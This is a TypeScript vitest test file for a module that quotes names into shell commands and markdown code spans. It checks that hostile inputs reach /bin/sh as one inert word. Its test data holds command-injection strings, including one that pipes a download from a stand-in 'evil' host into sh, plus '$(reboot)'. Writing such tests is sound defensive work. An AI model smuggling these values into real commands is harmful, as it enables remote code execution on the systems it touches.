import { execFileSync } from "node:child_process";
import { describe, expect, test } from "vitest";
import { cmd, codeSpan, fix, prose, raw } from "./fix-text";

const HOSTILE = "x;curl${IFS}evil|sh`id`";

describe("cmd", () => {
  test("plain names, numbers and placeholders as they are", () => {
    expect(cmd`ip link set dev ${"eth0"} mtu ${9000}`.text).toBe("ip link set dev eth0 mtu 9000");
    expect(cmd`ethtool ${raw("<nic>")}`.text).toBe("ethtool <nic>");
  });

  test("a name inside a word keeps the word one word", () => {
    expect(cmd`sysctl net.ipv4.conf.${"a b"}.proxy_arp`.text).toBe("sysctl net.ipv4.conf.'a b'.proxy_arp");
  });

  // The shell receives the name as one argument and runs nothing of it.
  test.each([HOSTILE, "$(reboot)", "it's", "VM Network", "-rf *"])("%j reaches /bin/sh as one word", (name) => {
    const out = execFileSync("/bin/sh", ["-c", cmd`printf '%s\n' ${name} | wc -l; printf %s ${name}`.text], { encoding: "utf8" });
    expect(out).toBe(`1\n${name}`);
  });

  test("a name with a line break becomes a placeholder, so the command stays on one line", () => {
    expect(cmd`ip link show ${"a\nreboot"}`.text).toBe("ip link show <name>");
  });

  test("commands compose", () => {
    const inner = cmd`ping -s ${1472} ${HOSTILE}`;
    expect(cmd`watch ${inner}`.text).toBe(`watch ping -s 1472 'x;curl\${IFS}evil|sh\`id\`'`);
  });
});

describe("fix", () => {
  test("prose escapes backticks and backslashes, and flattens line breaks", () => {
    expect(prose("a`b\\c\nd")).toBe("a\\`b\\\\c d");
    expect(fix`Check ${"eth`0"} (${"h1"}).`).toBe("Check eth\\`0 (h1).");
  });

  test("a command is fenced by more backticks than it holds", () => {
    expect(fix`Run ${cmd`ethtool ${"eth0"}`}.`).toBe("Run `ethtool eth0`.");
    expect(codeSpan(cmd`ethtool ${"a``b"}`)).toBe("```ethtool 'a``b'```");
    expect(codeSpan(cmd`${raw("`id`")}`)).toBe("`` `id` ``");
  });

  test("fixed commands in the literal stay, numbers may sit inside them", () => {
    expect(fix`netplan \`mtu: ${9000}\` on ${"h1"}`).toBe("netplan `mtu: 9000` on h1");
  });

  test("text interpolated inside a literal code span is refused", () => {
    expect(() => fix`\`ethtool ${"eth0"}\``).toThrow(/inside a literal code span/);
    expect(() => fix`\`watch ${cmd`ethtool ${"eth0"}`}\``).toThrow(/inside a literal code span/);
  });
});
